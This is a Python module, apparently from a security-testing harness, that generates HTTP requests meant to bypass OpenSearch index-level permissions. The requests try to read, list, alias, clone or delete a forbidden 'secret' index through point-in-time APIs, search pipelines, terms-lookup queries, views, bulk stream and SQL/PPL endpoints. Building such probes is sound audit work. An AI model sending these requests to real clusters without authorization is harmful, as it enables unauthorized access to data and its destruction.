"""Requests of OpenSearch alone; to Elasticsearch they are nothing, or documents of odd types."""
import json

#: A document of the index, looked up by a query.
LOOKUP = {"terms": {"word.keyword": {"index": "secret", "id": "1", "path": "word.keyword"}}}
NDJSON = {"Content-Type": "application/x-ndjson"}


def points_in_time(ids):
    for expression in ("secret", "logs-a,secret", "s*", "*", "_all", "mixed", "secret-alias", "*,-logs-*", "%73ecret", "<secret>"):
        yield ("H46", "POST", f"/{expression}/_search/point_in_time?keep_alive=1m", None, {})
    for path in ("/_search/point_in_time", "/_search/point_in_time?keep_alive=1m&index=secret", "/logs-a/_search/point_in_time?keep_alive=1m&index=secret"):
        yield ("H46", "POST", path, None, {})
    for method in ("GET", "DELETE"):
        yield ("H46", method, "/_search/point_in_time/_all", None, {})
    for path in ("/_cat/pit_segments/_all", "/_cat/pit_segments/_all?format=json", "/_search/point_in_time/"):
        yield ("H46", "GET", path, None, {})
    for pit in ids.get("pit", []):
        for content in ({"pit_id": pit}, {"pit_id": [pit]}, {"pit_id": ["_all"]}, {"pit_id": "_all"}):
            yield ("H46", "GET", "/_cat/pit_segments", content, {})
            yield ("H46", "DELETE", "/_search/point_in_time", content, {})
        yield ("H46", "POST", "/_msearch", "{}\n" + json.dumps({"pit": {"id": pit}}) + "\n", NDJSON)
        yield ("H46", "GET", "/_search?size=1", {"pit": {"id": pit}, "slice": {"id": 0, "max": 2}}, {})


def lists():
    for end in ("", "/secret", "/*", "/s*", "/mixed", "/logs-a,secret"):
        for path in ("/_list/indices", "/_list/shards", "/_cat/segment_replication", "/_remotestore/stats", "/_cat/pit_segments"):
            for query in ("", "?format=json", "?index=secret", "?format=json&size=1&sort=desc", "?h=*&s=index", "?next_token=MHxzZWNyZXQ%3D"):
                yield ("H28", "GET", path + end + query, None, {})
    for path in ("/_wlm/stats", "/_insights/top_queries", "/_plugins/_ism/explain/secret", "/_plugins/_rollup/jobs", "/_opendistro/_ism/explain", "/_views", "/views", "/_search/pipeline",
                 "/_cluster/state?indices=secret", "/_cluster/state/metadata?indices=secret", "/_cat/aliases?alias=secret-alias", "/_list", "/_nodes/_local/_search_shards"):
        yield ("H58", "GET", path, None, {})


def pipelines():
    request = {"request_processors": [{"filter_query": {"query": LOOKUP}}]}
    yield ("H25", "PUT", "/_search/pipeline/made", request, {})
    for query in ("search_pipeline=made", "search_pipeline=made&search_pipeline=_none", "search_pipeline=_none&search_pipeline=made", "search_pipeline=made&pipeline=_none"):
        yield ("H25", "GET", f"/logs-a/_search?{query}", None, {})
        yield ("H25", "POST", f"/logs-a/_update_by_query?{query}", {}, {})
    yield ("H25", "POST", "/logs-a/_search", {"search_pipeline": request}, {})
    yield ("H25", "POST", "/logs-a/_search", {"search_pipeline": "made"}, {})
    yield ("H25", "POST", "/_msearch", [{"index": "logs-a", "search_pipeline": "made"}, {}], NDJSON)
    yield ("H25", "PUT", "/logs-a/_settings", {"index.search.default_pipeline": "made"}, {})
    yield ("H25", "PUT", "/own-p", {"settings": {"index": {"search": {"default_pipeline": "made"}}}}, {})


def queries():
    hidden = [
        {"template": LOOKUP}, {"hybrid": {"queries": [LOOKUP]}}, {"hybrid": {"queries": [{"match_all": {}}], "filter": LOOKUP}}, {"script_score": {"query": LOOKUP, "script": {"source": "1"}}},
        {"knn": {"v": {"vector": [1], "k": 1, "filter": LOOKUP}}}, {"neural": {"v": {"query_text": "x", "k": 1, "filter": LOOKUP}}}, {"xy_shape": {"p": {"indexed_shape": {"index": "secret", "id": "1"}}}},
        {"terms": {"word.keyword": {"index": "secret", "id": "1", "path": "word.keyword", "store": True}, "value_type": "bitmap"}},
        {"terms": {"value_type": "bitmap", "word.keyword": {"index": "secret", "id": "1", "path": "word.keyword", "store": True}}},
    ]
    for query in hidden:
        yield ("H33", "POST", "/logs-a/_search", {"query": query}, {})
        yield ("H33", "POST", "/logs-a/_search", {"ext": {"rerank": {"query_context": {"query": query}}}}, {})
        yield ("H33", "POST", "/logs-a/_search", {"derived": {"d": {"type": "keyword", "script": {"source": "emit('x')"}}}, "post_filter": query}, {})
        yield ("H33", "GET", "/logs-a/_validate/query?rewrite=true&explain=true", {"query": query}, {})
        yield ("H33", "POST", "/logs-a/_search", {"aggs": {"a": {"filter": query}}}, {})


def makers():
    yield ("H19", "POST", "/_bulk/stream", '{"index":{"_index":"secret","_id":"1"}}\n{"a":1}\n', NDJSON)
    yield ("H19", "PUT", "/ingest-1/_bulk/stream", '{"delete":{"_index":"secret","_id":"1"}}\n', NDJSON)
    yield ("H19", "POST", "/_bulk?batch_size=1", '{"delete":{"_index":"secret","_id":"1"}}\n', NDJSON)
    for name, content in (
        ("own-1", {"context": {"name": "logs"}}), ("own-2", {"settings": {"index.resize.source.name": "secret"}}), ("own-3", {"settings": {"index.store.type": "remote_snapshot", "index.searchable_snapshot.index.id": "secret"}}),
        ("own-4", {"aliases": {"secret": {}}}), ("own-5", {"aliases": {"mixed": {}}}), ("own-6", {"settings": {"index.remote_store.enabled": True, "index.remote_store.segment.repository": "r"}}),
    ):
        yield ("H23", "PUT", f"/{name}", content, {})
    for path in ("/secret/_tier/warm", "/_remotestore/_restore", "/secret/_open?wait_for_completion=false", "/secret/_clone/own-7?wait_for_completion=false", "/own-1/_split/secret?wait_for_completion=false"):
        yield ("H24", "POST", path, {"indices": ["secret"]} if "restore" in path else None, {})
    yield ("H23", "POST", "/views", {"name": "logs-view", "targets": [{"index_pattern": "secret"}]}, {})
    yield ("H23", "PUT", "/views/logs-view", {"name": "logs-view", "targets": [{"index_pattern": "secret"}]}, {})
    yield ("H58", "POST", "/views/logs-view/_search", {}, {})
    for path in ("/_plugins/_sql", "/_plugins/_ppl", "/_opendistro/_sql", "/_opendistro/_ppl", "/_plugins/_asynchronous_search?index=secret", "/_plugins/_query/_datasources"):
        yield ("H43", "POST", path, {"query": "source = secret" if "ppl" in path else "SELECT * FROM secret"}, {})


def attacks_of_opensearch(ids):
    for group in (points_in_time(ids), lists(), pipelines(), queries(), makers()):
        yield from group
